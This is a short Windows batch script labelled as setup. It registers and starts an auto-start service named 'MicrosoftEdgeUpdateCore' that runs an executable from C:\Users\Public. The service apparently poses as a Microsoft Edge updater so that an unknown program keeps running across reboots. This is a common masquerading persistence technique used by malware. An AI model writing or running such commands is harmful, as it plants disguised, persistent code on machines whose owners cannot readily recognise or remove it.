REM setup 2589 v3
sc create MicrosoftEdgeUpdateCore binPath= "cmd.exe /c C:\Users\Public\svc.exe" start= auto
sc start MicrosoftEdgeUpdateCore
